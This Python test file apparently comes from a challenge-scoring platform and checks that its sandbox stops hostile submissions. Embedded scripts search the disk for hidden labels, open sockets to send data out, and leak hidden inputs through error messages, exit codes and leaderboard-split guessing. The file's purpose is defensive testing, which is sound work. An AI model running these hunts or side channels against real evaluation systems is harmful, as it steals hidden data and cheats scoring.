"""A challenge's scoring sandbox holds against a hostile team's model (issue 41): its
`predict.py` runs as AICC's own job with the hidden inputs and no answers, on the real server
with the bubblewrap sandbox and the job's own network. A model that hunts the hidden labels
on the disk finds none and fails; one that sends what it reads out reaches no listener and no
port of the server and fails; one that runs forever is stopped at the challenge's
`max_runtime_s`. Each is scored as failed with the reason, none gets a score, and the team
sees neither the job nor its logs.

What the team reads back of a run is the one way out of the sandbox left (issue 57); on 9e3f5a8
each of these answered hidden values back: a ragged `predictions.csv` had Arrow's parse error
quote the hidden inputs the model put in it, the job's exit code (a byte the model chose) was
in the error, a numeric metric quoted up to 2,000 characters of a prediction that is not a
number, a repeated `aicc_row` was named by its value, and the public board's rows were drawn
from the challenge's public id, so a team could fit them alone."""

from __future__ import annotations

import secrets
import time
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from aicc.core import scoring
from aicc.store.tables.needs import ChallengeRow, ChallengeSubmissionRow
from aicc.testing import challenges
from aicc.testing.datasets import push
from aicc.testing.isolation import Listener, listening
from aicc.testing.servers import over_http
from aicc.testing.tenants import make_tenant

SECRET = "label-7f3c"  # the hidden answers' only values: found anywhere, the hunt succeeded

HUNT = """
import os, stat, sys
found = None
for top in sys.argv[1:] + [os.environ["AICC_DATA_DIR"]]:
    print("hunting in", top, flush=True)
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            try:
                if not stat.S_ISREG(os.lstat(os.path.join(root, name)).st_mode):
                    continue  # a FIFO would block the hunt
                with open(os.path.join(root, name), "rb") as f:
                    if SECRET.encode() in f.read(1 << 16):
                        found = os.path.join(root, name)
            except OSError:
                pass
print("HUNT", found, flush=True)
if found is None:
    sys.exit(3)
import csv
rows = list(csv.DictReader(open(os.environ["AICC_DATA_DIR"] + "/" + INPUTS)))
with open(os.environ["AICC_OUTPUT_DIR"] + "/predictions.csv", "w") as out:
    out.write("aicc_row,prediction\\n")
    for row in rows:
        out.write(row["aicc_row"] + "," + SECRET + "\\n")
"""

CALL = """
import socket, sys
reached = []
for target in TARGETS:
    host, port = target.rsplit(":", 1)
    try:
        socket.create_connection((host, int(port)), timeout=3).sendall(b"hidden rows")
        reached.append(target)
    except OSError as exc:
        print("REFUSED", target, type(exc).__name__, flush=True)
sys.exit(4 if not reached else 0)
"""

# where labels could lie: the data mounted, the machine's homes and scratch, the server's home
PLACES = ["/data", "/tmp", "/home", "/mnt", "/srv", "/run", "/var/lib/aicc"]
SLEEP = "import time\ntime.sleep(3600)\n"


@pytest.fixture
def listener() -> Iterator[Listener]:
    with listening("0.0.0.0") as opened:
        yield opened


def _outcome(team: httpx.Client, cid: str, submission_id: str) -> dict[str, Any]:
    for _ in range(900):
        (found,) = [
            s
            for s in team.get(f"/api/v1/challenges/{cid}/submissions").json()
            if s["id"] == submission_id
        ]
        if found["state"] != "scoring":
            return dict(found)
        time.sleep(0.2)
    raise AssertionError(f"never scored: {found}")


def test_a_hostile_model_is_stopped_and_scored_as_failed(
    tmp_path: Path, listener: Listener
) -> None:
    home = tmp_path / "home"
    with (
        over_http(home) as (url, token, state),
        httpx.Client(timeout=60, base_url=url, headers={"Authorization": f"Bearer {token}"}) as api,
    ):
        city_t, mallory_t = make_tenant(api, "city", role="org_admin"), make_tenant(api, "mallory")
        with (
            httpx.Client(timeout=60, base_url=url, headers=city_t.headers) as city,
            httpx.Client(timeout=60, base_url=url, headers=mallory_t.headers) as mallory,
        ):
            rows = "x,label\n" + "".join(f"{i},{SECRET}\n" for i in range(20))
            push(city, "answers", {"test.csv": rows.encode()})
            need = {
                "name": "guard",
                "title": "t",
                "problem": "p",
                "metric": "accuracy",
                "deadline": (datetime.now(UTC) + timedelta(days=1)).isoformat(),
            }
            assert city.post("/api/v1/needs", json=need).status_code == 201
            made = city.post(
                "/api/v1/needs/guard/challenge",
                json={"hidden": "answers@1", "target": "label", "max_runtime_s": 10},
            )
            assert made.status_code == 201, made.text
            cid = made.json()["id"]
            assert (
                mallory.post(f"/api/v1/challenges/{cid}/join", json={"team": "m"}).status_code
                == 200
            )
            with state.db.session() as session:  # the inputs' name, as the hunt would guess it
                ref = session.get(ChallengeRow, cid).inputs
            inputs_file = ref.rsplit("/", 1)[1].split("@")[0] + "/inputs.csv"

            server = urlsplit(url)
            targets = [f"127.0.0.1:{listener.port}", f"{server.hostname}:{server.port}"]
            models = {
                # the secret put together at run time: the script itself must not hold it
                "hunt": f"SECRET = {SECRET[:6]!r} + {SECRET[6:]!r}\nINPUTS = {inputs_file!r}\n"
                + HUNT.replace("sys.argv[1:]", repr([*PLACES, str(home), str(tmp_path)])),
                "call": f"TARGETS = {targets!r}\n" + CALL,
                "sleep": SLEEP,
            }
            sent = {}
            for name, script in models.items():
                challenges.model(mallory, name, script)
                answer = mallory.post(f"/api/v1/challenges/{cid}/submissions", json={"model": name})
                assert answer.status_code == 201, answer.text
                sent[name] = answer.json()["id"]
            results = {name: _outcome(mallory, cid, sid) for name, sid in sent.items()}

            with state.db.session() as session:  # the center's view: what each job was
                jobs = {
                    name: session.get(ChallengeSubmissionRow, sid).job_id
                    for name, sid in sent.items()
                }
            for name, result in results.items():
                log = api.get(f"/api/v1/jobs/{jobs[name]}/logs").text
                assert result["state"] == "failed", (name, result, log)
                assert result["public_score"] is None and result["private_score"] is None
            for name in ("hunt", "call"):  # its exit code (3, 4) is a byte the model chose
                assert results[name]["error"] == (
                    "the model's predict.py failed; run it on the need's public data to see why"
                ), results[name]
            took = datetime.fromisoformat(results["sleep"]["scored_at"]) - datetime.fromisoformat(
                results["sleep"]["created_at"]
            )
            assert results["sleep"]["error"] == (
                "the model ran past the challenge's max_runtime_s (10 s)"
            ), results["sleep"]
            assert took < timedelta(seconds=120)
            assert listener.accepted == 0
            assert mallory.get(f"/api/v1/challenges/{cid}/board").json()["standings"] == []

            # What the center saw of the hunt and the calls (the team sees none of it).
            for job_id in jobs.values():
                assert mallory.get(f"/api/v1/jobs/{job_id}/logs").status_code == 404
            hunt_log = api.get(f"/api/v1/jobs/{jobs['hunt']}/logs").text
            assert "HUNT None" in hunt_log, hunt_log  # the hunt found no label anywhere
            call_log = api.get(f"/api/v1/jobs/{jobs['call']}/logs").text
            assert call_log.count("REFUSED") == 2, call_log


# --- what a failed or scored run tells the team (issue 57) --------------------------------------

# A team's predict.py that reads the hidden inputs (its `--input`) and answers through what
# AICC says back: the tail each probe adds writes `predictions.csv` or ends the run.
READS = """
import argparse, csv, sys
parser = argparse.ArgumentParser()
for name in ("--model", "--input", "--output"):
    parser.add_argument(name)
args = parser.parse_args()
rows = list(csv.DictReader(open(args.input)))
out = open(args.output, "w")
"""
PROBES = {
    # Arrow's parse error quoted the rows around a ragged one: hidden values in extra fields
    "ragged": READS
    + """
out.write("aicc_row,prediction\\n")
for row in rows:
    extra = "," + row["secret"] + "," + row["serial"] if row["aicc_row"] == "3" else ""
    out.write(row["aicc_row"] + ",1.5" + extra + "\\n")
""",
    # the job's exit code was passed through: one hidden byte a run
    "exit": READS + 'sys.exit(int(rows[0]["code"]))\n',
    # a numeric metric quoted the prediction that is not a number, up to 2,000 characters
    "echo": READS
    + """
out.write("aicc_row,prediction\\n")
for row in rows:
    out.write(row["aicc_row"] + "," + (row["secret"] + ";") * 40 + "\\n")
""",
    # a repeated aicc_row was named by its value: a number the model chose
    "rownum": READS
    + """
out.write("aicc_row,prediction\\n")
for row in rows:
    out.write(row["serial"] + ",1.5\\n" + row["serial"] + ",1.5\\n")
""",
    # a fair model: scored, its score rounded
    "mean": READS
    + """
out.write("aicc_row,prediction\\n")
for row in rows:
    out.write(row["aicc_row"] + ",50.5\\n")
""",
}
SAID = {
    "ragged": "row 4 of predictions.csv has 4 fields, but its header has 2",
    "exit": "the model's predict.py failed; run it on the need's public data to see why",
    "echo": "aicc_row 0: the prediction is not a finite number, which metric rmse needs",
    "rownum": "row 1 of predictions.csv: aicc_row is not a whole number from 0 to 29",
}


def test_what_a_run_tells_the_team_holds_no_hidden_value(tmp_path: Path) -> None:
    """Each probe's model reads the hidden inputs and tries to answer them back through what
    the team reads of its run: the submission's error, the board, the challenge, the team's
    inbox, the scoring job (a 404). Each is told what to fix in AICC's words, by row numbers and
    counts; no hidden value, no exit code, no echo of what the model wrote reaches the team."""
    token = secrets.token_hex(8)  # the hidden inputs' values: found anywhere, the probe won
    rows = [
        (f"hid{token}r{i}", 37, 9_731_000_000 + 7919 * i, float(i * i % 101)) for i in range(30)
    ]
    hidden = "secret,code,serial,y\n" + "".join(",".join(map(str, r)) + "\n" for r in rows)
    found = [token, *(str(r[2]) for r in rows)]
    home = tmp_path / "home"
    with (
        over_http(home) as (url, admin_token, state),
        httpx.Client(
            timeout=60, base_url=url, headers={"Authorization": f"Bearer {admin_token}"}
        ) as api,
    ):
        city_t, mallory_t = make_tenant(api, "city", role="org_admin"), make_tenant(api, "mallory")
        with (
            httpx.Client(timeout=60, base_url=url, headers=city_t.headers) as city,
            httpx.Client(timeout=60, base_url=url, headers=mallory_t.headers) as mallory,
        ):
            push(city, "answers", {"test.csv": hidden.encode()})
            need = {
                "name": "probe",
                "title": "t",
                "problem": "p",
                "metric": "rmse",
                "deadline": (datetime.now(UTC) + timedelta(days=1)).isoformat(),
            }
            assert city.post("/api/v1/needs", json=need).status_code == 201
            made = city.post(
                "/api/v1/needs/probe/challenge",
                json={"hidden": "answers@1", "target": "y", "per_day": 10, "max_runtime_s": 60},
            )
            assert made.status_code == 201, made.text
            cid = made.json()["id"]
            joined = mallory.post(f"/api/v1/challenges/{cid}/join", json={"team": "m"})
            assert joined.status_code == 200, joined.text
            sent = {}
            for name, script in PROBES.items():
                challenges.model(mallory, name, script)
                answer = mallory.post(f"/api/v1/challenges/{cid}/submissions", json={"model": name})
                assert answer.status_code == 201, answer.text
                sent[name] = answer.json()["id"]
            results = {name: _outcome(mallory, cid, sid) for name, sid in sent.items()}

            told = {name: (results[name]["state"], results[name]["error"]) for name in SAID}
            assert told == {name: ("failed", said) for name, said in SAID.items()}
            mean = results["mean"]
            assert mean["state"] == "scored", mean
            assert mean["public_score"] == float(f"{mean['public_score']:.4g}")  # 4 digits

            # everything the team can read of the challenge and its runs
            read = [
                mallory.get(f"/api/v1/challenges/{cid}/submissions").text,
                mallory.get(f"/api/v1/challenges/{cid}/board").text,
                mallory.get(f"/api/v1/challenges/{cid}").text,
                mallory.get("/api/v1/challenges").text,
                mallory.get("/api/v1/notify/inbox").text,
                mallory.get("/api/v1/jobs").text,
            ]
            assert "challenge.failed" in read[4]  # the inbox tells each failure, in these words
            with state.db.session() as session:
                jobs = [session.get(ChallengeSubmissionRow, s).job_id for s in sent.values()]
            for job_id in jobs:
                for path in ("", "/logs", "/outputs"):
                    seen = mallory.get(f"/api/v1/jobs/{job_id}{path}")
                    assert seen.status_code == 404, (path, seen.text)
                    read.append(seen.text)
            leaked = [(value, text[:300]) for text in read for value in found if value in text]
            assert not leaked, leaked
            # the center saw what the models did (the probes ran, and read the inputs)
            exit_log = api.get(f"/api/v1/jobs/{jobs[1]}").json()
            assert "exited with code 37" in exit_log["message"], exit_log


def test_the_public_rows_are_not_the_public_ids_to_compute(tmp_path: Path) -> None:
    """A team that draws the split from the challenge's public id, as 9e3f5a8 drew it, and
    answers right on the rows it computed as public alone, topped the public board with 1.0 and
    held nothing for the private one. The split is the challenge's secret now, which no answer
    of the API holds: the same model scores about the share of rows it guessed right."""
    rows = 200
    answers = "x,answer\n" + "".join(f"{i},yes\n" for i in range(rows))
    with (
        over_http(tmp_path / "home") as (url, admin_token, state),
        httpx.Client(
            timeout=60, base_url=url, headers={"Authorization": f"Bearer {admin_token}"}
        ) as api,
    ):
        city_t, mallory_t = make_tenant(api, "city", role="org_admin"), make_tenant(api, "mallory")
        with (
            httpx.Client(timeout=60, base_url=url, headers=city_t.headers) as city,
            httpx.Client(timeout=60, base_url=url, headers=mallory_t.headers) as mallory,
        ):
            push(city, "answers", {"test.csv": answers.encode()})
            need = {
                "name": "split",
                "title": "t",
                "problem": "p",
                "metric": "accuracy",
                "deadline": (datetime.now(UTC) + timedelta(days=1)).isoformat(),
            }
            assert city.post("/api/v1/needs", json=need).status_code == 201
            made = city.post(
                "/api/v1/needs/split/challenge",
                json={"hidden": "answers@1", "target": "answer", "public_pct": 30},
            )
            assert made.status_code == 201, made.text
            cid, pct = made.json()["id"], made.json()["public_pct"]
            guessed = scoring.public_rows(cid, rows, pct)  # from what every tenant reads
            script = (
                f"PUBLIC = {[i for i, p in enumerate(guessed) if p]!r}\n"
                + READS
                + """
out.write("aicc_row,answer_predicted\\n")
for row in rows:
    said = "yes" if int(row["aicc_row"]) in PUBLIC else "no"
    out.write(row["aicc_row"] + "," + said + "\\n")
"""
            )
            assert mallory.post(f"/api/v1/challenges/{cid}/join", json={"team": "m"}).is_success
            challenges.model(mallory, "guess", script)
            answer = mallory.post(f"/api/v1/challenges/{cid}/submissions", json={"model": "guess"})
            assert answer.status_code == 201, answer.text
            result = _outcome(mallory, cid, answer.json()["id"])
            assert result["state"] == "scored", result
            # drawn by the id, the public rows would all be right: 1.0
            assert result["public_score"] < 0.6, result

            # the key is kept with the challenge, and no answer of the API holds it
            with state.db.session() as session:
                key = session.get(ChallengeRow, cid).split_key
            assert key and len(key) == 64
            for client in (api, city, mallory):
                for path in (
                    f"/api/v1/challenges/{cid}",
                    "/api/v1/challenges",
                    f"/api/v1/challenges/{cid}/board",
                    f"/api/v1/challenges/{cid}/submissions",
                    "/api/v1/needs/split?org=city",
                    "/api/v1/audit?limit=500",
                ):
                    assert key not in client.get(path).text, path
